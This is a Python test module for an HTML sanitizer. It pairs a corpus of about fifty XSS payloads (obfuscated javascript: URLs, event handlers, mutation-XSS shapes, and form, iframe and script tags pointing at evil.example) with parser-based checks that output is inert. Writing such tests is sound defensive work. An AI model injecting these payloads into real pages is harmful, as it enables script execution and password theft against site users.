"""Hostile HTML, and a check that what came out of a surface is inert.

`CORPUS` holds the payloads (script tags, event handlers, javascript:/data:/vbscript: URLs,
plain and entity-encoded and with whitespace or control characters, SVG and MathML, mXSS
shapes, unbalanced tags, CSS, <base>, <meta refresh>, <iframe>, <form>); each payload also
carries `MARKER`, a word that must never end up inside a dangerous construct.

`assert_inert(html)` parses the output with `html.parser` (not substring checks) and fails on
any tag outside `allowed_tags`, any attribute outside `allowed_attributes`, any `on*` handler
or `style`, and any URL-bearing attribute whose scheme (after entity decoding and dropping
whitespace and control characters, as browsers do) is not in `schemes`. Later API tests
reuse both.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from html.parser import HTMLParser

MARKER = "xssmarker"

CORPUS: dict[str, str] = {
    "script": f"<script>alert('{MARKER}')</script>",
    "script_upper": f"<SCRIPT SRC=//evil.example/{MARKER}.js></SCRIPT>",
    "script_split": f"<scr<script>ipt>alert('{MARKER}')</script>",
    "img_onerror": f"<img src=x onerror=alert('{MARKER}')>",
    "body_onload": f"<body onload=alert('{MARKER}')>",
    "handler_on_allowed_tag": f"<p onclick=\"alert('{MARKER}')\" onmouseover=x>{MARKER}</p>",
    "a_javascript": f"<a href=\"javascript:alert('{MARKER}')\">{MARKER}</a>",
    "a_javascript_mixed_case": f"<a href=\"JaVaScRiPt:alert('{MARKER}')\">{MARKER}</a>",
    "a_javascript_entities": "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
                             f"alert(1)\">{MARKER}</a>",
    "a_javascript_hex_entities": f"<a href=\"&#x6A;avascript&#x3A;alert(1)\">{MARKER}</a>",
    "a_javascript_tab": f"<a href=\"jav\tascript:alert(1)\">{MARKER}</a>",
    "a_javascript_newline_entity": f"<a href=\"jav&#x0A;ascript:alert(1)\">{MARKER}</a>",
    "a_javascript_leading_space": f"<a href=\" \x01javascript:alert(1)\">{MARKER}</a>",
    "a_javascript_colon_entity": f"<a href=\"javascript&colon;alert(1)\">{MARKER}</a>",
    "a_data": f"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">{MARKER}</a>",
    "a_vbscript": f"<a href=\"vbscript:msgbox('{MARKER}')\">{MARKER}</a>",
    "a_relative": f"<a href=\"/admin/delete\">{MARKER}</a>",
    "svg_onload": f"<svg onload=alert('{MARKER}')><circle r=1 /></svg>",
    "svg_script": f"<svg><script>alert('{MARKER}')</script></svg>",
    "svg_style_mxss": f"<svg><style><img src=x onerror=alert('{MARKER}')></style></svg>",
    "svg_animate": f"<svg><a><animate attributeName=href values=javascript:alert(1) />"
                   f"<text x=20 y=20>{MARKER}</text></a></svg>",
    "math_href": f"<math><mtext><a xlink:href=\"javascript:alert('{MARKER}')\">x</a></mtext></math>",
    "math_mglyph_mxss": f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARKER}')>",
    "noscript_mxss": f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARKER}')>\"></noscript>",
    "style_mxss": f"<style><style/><img src=x onerror=alert('{MARKER}')></style>",
    "textarea_mxss": f"<textarea><img src=x onerror=alert('{MARKER}')></textarea>",
    "template_mxss": f"<template><img src=x onerror=alert('{MARKER}')></template>",
    "title_mxss": f"<title><img src=x onerror=alert('{MARKER}')></title>",
    "comment_mxss": f"<!--<img src=x onerror=alert('{MARKER}')>-->",
    "cdata": f"<![CDATA[<img src=x onerror=alert('{MARKER}')>]]>",
    "unbalanced": f"<p><b><i>{MARKER}</p></b><a href=\"https://ok.example\"><a href=\"javascript:x\">y",
    "unclosed_attribute": f"<a href=\"https://ok.example\" title=\"<img src=x onerror=alert(1)>{MARKER}",
    "broken_tag": f"<img src=\"x\"/onerror=alert('{MARKER}')>",
    "style_attribute": f"<span style=\"background:url(javascript:alert('{MARKER}'))\">x</span>",
    "css_expression": f"<p style=\"width: expression(alert('{MARKER}'))\">x</p>",
    "style_tag": f"<style>@import 'https://evil.example/{MARKER}.css'; body {{ display:none }}</style>",
    "base": f"<base href=\"https://evil.example/{MARKER}/\">",
    "meta_refresh": f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{MARKER}')\">",
    "iframe": f"<iframe src=\"https://evil.example/{MARKER}\" srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "form": f"<form action=\"https://evil.example/{MARKER}\"><input name=password>"
            "<button formaction=javascript:alert(1)>go</button></form>",
    "object_embed": f"<object data=\"javascript:alert('{MARKER}')\"></object><embed src=\"javascript:x\">",
    "link_import": f"<link rel=import href=\"https://evil.example/{MARKER}\">",
    "video_poster": f"<video poster=javascript:alert('{MARKER}')><source onerror=alert(1)></video>",
    "details_ontoggle": f"<details open ontoggle=alert('{MARKER}')><summary>x</summary></details>",
    "id_name_clobbering": f"<p id=\"location\" name=\"{MARKER}\" class=\"x u-url\">x</p>",
    "target_override": f"<a href=\"https://ok.example\" target=\"_self\" rel=\"opener\">{MARKER}</a>",
    "null_byte": f"<scr\x00ipt>alert('{MARKER}')</scr\x00ipt><a href=\"java\x00script:alert(1)\">x</a>",
    "entity_tag": f"&lt;script&gt;alert('{MARKER}')&lt;/script&gt;",
}

# What Mastodon's allow-list lets through (folded headings come out as p + strong).
ALLOWED_TAGS = frozenset({"p", "br", "span", "a", "del", "pre", "blockquote", "code", "b", "strong", "u",
                          "i", "em", "ul", "ol", "li"})
ALLOWED_ATTRIBUTES: Mapping[str, frozenset[str]] = {
    "a": frozenset({"href", "rel", "class", "target"}), "span": frozenset({"class"}),
    "p": frozenset({"class"}), "ol": frozenset({"start", "reversed"}), "li": frozenset({"value"}),
}
SAFE_SCHEMES = frozenset({"http", "https", "dat", "dweb", "ipfs", "ipns", "ssb", "gopher", "xmpp", "magnet",
                          "gemini"})
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcdoc",
                            "background", "cite", "ping"})
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))


def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """Every start tag with its attributes (entity-decoded), as a browser's tokenizer sees them."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def problems(html: str, *, allowed_tags: Iterable[str] = ALLOWED_TAGS,
             allowed_attributes: Mapping[str, Iterable[str]] = ALLOWED_ATTRIBUTES,
             schemes: Iterable[str] = SAFE_SCHEMES) -> list[str]:
    """What makes `html` unsafe, one line per finding (empty: inert)."""
    tags, schemes = set(allowed_tags), set(schemes)
    found = []
    for tag, attrs in elements(html):
        if tag not in tags:
            found.append(f"tag <{tag}>")
        allowed = set(allowed_attributes.get(tag, ()))
        for name, value in attrs:
            if name.startswith("on") or name == "style" or name not in allowed:
                found.append(f"attribute {name!r} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                url = _INVISIBLE.sub("", value).lower()
                scheme = _SCHEME.match(url)
                if scheme is None or scheme.group(1) not in schemes:
                    found.append(f"URL {value!r} in {name} of <{tag}>")
            if tag == "a" and name == "target" and value != "_blank":
                found.append(f"target {value!r}")
    return found


def assert_inert(html: str, **options: object) -> None:
    found = problems(html, **options)  # type: ignore[arg-type]
    assert not found, f"unsafe output {html!r}: {'; '.join(found)}"


def assert_links_safe(html: str) -> None:
    """Every link that survived carries rel=nofollow noopener noreferrer and target=_blank."""
    for tag, attrs in elements(html):
        if tag == "a":
            values = dict(attrs)
            assert values.get("rel") == "nofollow noopener noreferrer", html
            assert values.get("target") == "_blank", html
